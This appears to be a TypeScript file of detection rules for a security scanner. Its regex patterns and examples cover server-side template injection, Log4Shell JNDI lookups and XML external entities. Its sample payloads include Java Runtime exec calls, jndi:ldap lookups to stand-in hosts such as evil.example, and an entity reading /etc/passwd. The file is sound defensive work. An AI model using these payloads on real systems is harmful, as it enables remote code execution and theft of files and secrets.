/** Template expressions and document types that reach for the machine behind them. */
import type { Rule } from '../types.ts';
import { IN_OUTPUT } from './in-output.ts';
import { OUTPUT } from './taxonomy.ts';

const base = {
  ...IN_OUTPUT,
  version: 2,
} as const;
const template = {
  ...base,
  type: 'template_injection',
  taxonomy: [OUTPUT, 'CWE-1336'],
  severity_reason: 'Rendered by a template engine it runs code on the server.',
  references: [
    'https://owasp.org/www-project-web-security-testing-guide/v42/4-Web_Application_Security_Testing/07-Input_Validation_Testing/18-Testing_for_Server-side_Template_Injection',
  ],
} as const;
const REACHES = [
  '__(?:class|globals|mro|base|bases|subclasses|import|builtins|init|getattribute|proto)__',
  '\\\\x5f\\\\x5f',
  'getRuntime|java\\.lang|getClass\\s?\\(|forName\\s?\\(|ProcessBuilder|getClassLoader|classLoader\\b',
  '(?<![a-z])T\\s?\\((?:java|org)\\.|freemarker\\.template|@java\\.|ognl|_memberAccess',
  'popen\\s?\\(|os\\.system|(?<![a-z])system\\s?[(\'"]|child_process|execSync|passthru|shell_exec|phpinfo\\s?\\(|mainModule',
  'constructor[.(\'"\\]]|valueOf\\.|IO\\.popen|File\\.(?:open|read)|Kernel\\.|readFileSync',
  'config\\s{0,2}(?:\\}\\}|\\.items|\\.SECRET_KEY|\\[\\s{0,2}[\'"]\\w{0,20}(?:SECRET|KEY|PASSWORD|TOKEN))|settings\\.(?:SECRET_KEY|DATABASES)',
  '_self\\.env|_TemplateReference|request\\.(?:application|environ)|request\\s?\\|\\s?attr|request\\[[\'"]_',
  'app\\.request\\.server|dump\\(app|\\|\\s?(?:filter|map|reduce|sort)\\(\\s?[\'"](?:system|exec|passthru|shell_exec|assert)',
  '\\.class\\.(?:base|mro|inspect|forName|classLoader)|self\\.(?:class\\.send|module\\.)|System\\.Diagnostics|Object\\.constants|import\\s{1,3}os\\b|(?<![a-z.])(?:Process\\.(?:spawn|exec)|Open3\\.)|(?<![a-z.])ENV\\.(?:to_h|to_a|inspect|each)\\b|\\.System\\s{1,3}"',
].join('|');
const PRODUCT = '[\'"]?\\d{1,7}[\'"]?\\s{0,3}\\*\\s{0,3}[\'"]?\\d{1,7}[\'"]?\\s{0,3}';

export const templatePayloadRules: readonly Rule[] = [
  {
    ...template,
    id: 'template-injection',
    confidence: 0.85,
    description:
      'A template expression that reaches for the machine behind it, or multiplies two numbers to see whether it is evaluated.',
    triggers: ['{{', '${', '<%', '#{', '{%', '*{', '@{', '@(', '[[$', '%{(', '__${', '@system.'],
    pattern: [
      `(?:(?<!\\$\\{)\\{\\{[-=#]?|\\$\\{\\{?|<%[=-]?|#\\{|\\{%|\\*\\{|@\\{|%\\{)[^{}%\\n]{0,160}?(?:${REACHES})[^\\n]{0,160}`,
      `(?:\\{\\{[=-]?|\\$\\{{1,2}|<%=|#\\{|\\*\\{|@\\{|@)\\s{0,3}\\(?${PRODUCT}(?:\\}|%>|\\))`,
      '@\\(?(?:new\\s|await\\s)?System\\.(?:Diagnostics|IO|Reflection)\\.[^\\n]{0,120}',
      '\\{%\\s{0,3}(?:debug\\s{0,3}%|load\\s{1,3}log\\b|get_admin_log)',
      '<%=?\\s{0,3}`[^`\\n]{1,80}`',
      '#\\{\\s{0,2}`(?:id|whoami|ls|env|uname|cat\\s)[^`\\n]{0,60}`',
    ].join('|'),
    examples: {
      match: [
        { text: "{{''.__class__.__mro__[1].__subclasses__()}}" },
        { text: '{{7*7}}' },
        { text: `${'$'}{T(java.lang.Runtime).getRuntime().exec('id')}` },
        { text: "<%= system('id') %>" },
        { text: '@(7*7)' },
        { text: '<%= ENV.to_h %>' },
        { text: '@(System.Diagnostics.Process.Start("cmd"))' },
      ],
      no_match: [
        { text: '{{ user.name }}' },
        { text: `${'$'}{price * 2}` },
        { text: `${'$'}{{ github.sha }}` },
        { text: '{{ config.title }}' },
        { text: '<%= @user.name %>' },
        { text: '<%= ENV.fetch("HOME") %>' },
        { text: '@(Model.System.Name)' },
        { text: '{{ items.length * 2 }}' },
      ],
    },
  },
  {
    ...template,
    id: 'template-directive',
    confidence: 0.85,
    description:
      'A directive of FreeMarker, Velocity, Smarty, Mako or Handlebars that reaches for the machine.',
    triggers: [
      '<#assign',
      '#set',
      '$class.inspect',
      '{php}',
      '{{php}}',
      '{system(',
      '{smarty',
      '{$smarty.version',
      '{{#with "',
      '$x.class.for',
      '{exec(',
      '{passthru(',
    ],
    pattern: [
      '<#assign\\s[^>\\n]{0,120}?(?:freemarker\\.template|\\?new\\(\\)|\\?api|classloader)[^>\\n]{0,120}',
      '#set\\s?\\([^\\n]{0,160}?(?:class\\.forName|getClass\\(|java\\.lang|getRuntime)[^\\n]{0,160}',
      '\\$class\\.inspect\\([^\\n]{0,160}',
      '\\{{1,2}php\\}{1,2}[^\\n]{0,160}',
      '\\{(?:system|exec|passthru)\\([\'"][^\\n]{1,120}\\}',
      '\\{Smarty_Internal[^\\n]{0,160}|\\{\\$smarty\\.version\\}',
      '\\{\\{#with "\\w"\\s{1,3}as\\s{1,3}\\|[^\\n]{0,200}',
    ].join('|'),
    examples: {
      match: [
        { text: `<#assign ex="freemarker.template.utility.Execute"?new()>${'$'}{ex("id")}` },
        { text: "{system('id')}" },
      ],
      no_match: [{ text: '<#assign name = user.name>' }, { text: '#set($total = $a + $b)' }],
    },
  },
  {
    ...base,
    id: 'log4shell',
    type: 'jndi_injection',
    confidence: 0.95,
    severity: 'CRITICAL',
    taxonomy: [OUTPUT, 'CWE-917', 'CWE-502'],
    description: 'A JNDI lookup, plain or spelled out of other lookups, or one that leaks a secret.',
    severity_reason: 'A logger that resolves it loads code from the named host (CVE-2021-44228).',
    references: [
      'https://logging.apache.org/security.html',
      'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
    ],
    triggers: [
      '${jndi',
      '${${',
      '${j',
      '$%7bjndi',
      '${script:',
      '${url:',
      '${dns:',
      '${env:aws',
      '${env:secret',
      '${env:pass',
      '${::-',
    ],
    pattern: [
      '\\$(?:\\{|%7b)jndi(?::|\\$\\{)[^\\s"\']{3,300}',
      '\\$\\{[jndi]{0,4}(?:\\$\\{[^{}\\n]{1,40}\\}[jndi:]{0,5}){1,12}(?::?[a-z]{0,6}:?//|:|\\$|\\})[^\\s"\']{0,200}',
      '\\$\\{j[nd]{0,2}\\$\\{[^{}\\n]{1,40}\\}[^\\s"\']{3,200}',
      '\\$\\{script:(?:javascript|js|groovy):[^\\n"]{1,200}',
      '\\$\\{url:(?:utf-8|us-ascii|iso[\\w-]{1,12}):https?:[^\\s"\']{1,200}',
      '\\$\\{dns:address\\|[^\\s"\'}]{3,120}',
      '\\$\\{env:(?:aws_|secret|pass)\\w{0,40}(?::-[^}]{0,40})?\\}',
    ].join('|'),
    validators: ['jndi_lookup'],
    examples: {
      match: [
        { text: `${'$'}{jndi:ldap://evil.io/a}` },
        { text: `${'$'}{${'$'}{lower:j}ndi:ldap://evil.example/x}` },
        { text: `${'$'}{${'$'}{::-j}${'$'}{::-n}${'$'}{::-d}${'$'}{::-i}:ldap://evil.example/z}` },
      ],
      no_match: [
        { text: `${'$'}{java.version}` },
        { text: `${'$'}{${'$'}{name}.url}` },
        { text: 'JNDI lookups of Log4j' },
      ],
    },
  },
  {
    ...base,
    id: 'xml-external-entity',
    type: 'xxe',
    confidence: 0.9,
    taxonomy: [OUTPUT, 'CWE-611', 'CWE-776'],
    description:
      'An XML document type with an external entity, entities that grow, or an inclusion of a local file.',
    severity_reason: 'A careless parser reads local files, calls out or runs out of memory.',
    references: [
      'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    ],
    triggers: ['<!entity', '<!doctype', '<xi:include', '<xsl:', '<?xml-stylesheet', '%3c!entity'],
    pattern: [
      '<!ENTITY\\s{1,4}(?:%\\s{1,3})?[\\w.-]{1,60}\\s{1,4}(?:SYSTEM|PUBLIC\\s{1,3}["\'][^"\'>]{0,100}["\'])\\s{1,4}["\'](?:\\w{2,9}:|/|\\\\|\\.\\.)[^"\'>]{1,300}["\']',
      '<!ENTITY\\s{1,4}(?:%\\s{1,3})?[\\w.-]{1,60}\\s{1,4}["\'](?:(?:&|%)[\\w.-]{1,30};\\s?){2,}',
      '<!ENTITY\\s{1,4}%\\s{1,3}[\\w.-]{1,60}\\s{1,4}["\']<!ENTITY',
      '<!DOCTYPE\\s{1,4}[\\w:-]{1,40}\\s{1,4}(?:SYSTEM|PUBLIC\\s{1,3}["\'][^"\'>]{0,100}["\'])\\s{1,3}["\'](?:(?:https?|ftp|file|gopher):[^"\'>]{1,200}\\.(?:dtd|ent|xml)|https?://\\d{1,3}\\.[^"\'>]{1,200})',
      '<xi:include\\s[^>]{0,200}?href\\s?=\\s?["\'](?:file:|https?://\\d|/etc/)[^>]{1,200}',
      '<xsl:(?:value-of|copy-of|variable|include|import)\\s[^>]{0,100}?(?:document\\(\\s?[\'"](?:file:|https?:|/etc)|php:function|unparsed-text\\()[^>]{0,200}',
      '<xsl:(?:include|import)\\s[^>]{0,60}?href\\s?=\\s?["\'](?:https?://\\d|file:)[^>]{1,120}',
      '<\\?xml-stylesheet\\s[^>]{0,100}?href\\s?=\\s?["\']https?://[^"\'>]{1,200}\\.xsl',
    ].join('|'),
    validators: ['document_type'],
    examples: {
      match: [
        { text: '<!ENTITY xxe SYSTEM "file:///etc/passwd">' },
        { text: '<!DOCTYPE foo SYSTEM "http://evil.example/e.dtd"><foo/>' },
        { text: '<!DOCTYPE r PUBLIC "-//A//B//EN" "http://files.example/x.dtd"><r/>' },
        { text: '<!ENTITY lol2 "&lol;&lol;&lol;&lol;">' },
      ],
      no_match: [
        { text: '<!ENTITY copy "&#169;">' },
        {
          text: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        },
        { text: '<!DOCTYPE note SYSTEM "note.dtd">' },
        { text: '<!DOCTYPE suite SYSTEM "https://testng.org/testng-1.0.dtd" >' },
      ],
    },
  },
];
